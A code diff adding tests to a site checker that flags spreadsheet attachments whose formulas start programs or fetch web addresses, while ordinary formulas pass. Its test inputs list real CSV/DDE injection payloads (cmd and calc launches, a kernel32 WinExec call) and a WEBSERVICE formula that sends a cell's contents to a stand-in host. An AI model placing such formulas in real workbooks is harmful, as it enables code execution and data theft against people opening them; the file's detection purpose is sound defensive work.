@@ -27,6 +27,7 @@ from ..samples import (
     office_zip,
     planted,
     xlsx_everywhere,
+    xlsx_with,
 )
 
 
@@ -259,3 +260,23 @@ def test_a_number_in_the_parts_word_shows_in_its_menus_or_before_list_items_is_f
     parts[part] = xml.format(number=planted(1))
     mobiles, _ = findings(site, "a.docx", office_zip(parts))
     assert len(mobiles) == 1 and label in mobiles[0].message, [p.message for p in mobiles]
+
+
+@pytest.mark.parametrize("formula", ["=cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
+                                     '=WEBSERVICE("http://example.com/?"&A1)', '=webservice ("http://example.com")',
+                                     '=CALL("kernel32","WinExec","JCJ","calc",0)'])
+def test_a_workbook_formula_that_calls_another_program_or_fetches_an_address_is_an_error(site, formula):
+    """A workbook holds formulas by right, but one that starts a program by DDE, calls a library or fetches a web
+    address when a reader opens the download is no table to publish (GK315)."""
+    site.attach("a.xlsx", xlsx_with(formula))
+    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
+    [problem] = site.problems(privacy.FORMULA.code)
+    assert "名单" in problem.message and "第 2 行的公式" in problem.message
+
+
+@pytest.mark.parametrize("formula", ["=SUM(A1:A3)", '=HYPERLINK("http://example.com","说明")', '=CONCAT("a|b",A1)',
+                                     '=IF(A1>0,"是","否")'])
+def test_an_ordinary_workbook_formula_is_let_be(site, formula):
+    site.attach("a.xlsx", xlsx_with(formula))
+    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
+    assert site.problems(privacy.FORMULA.code) == []
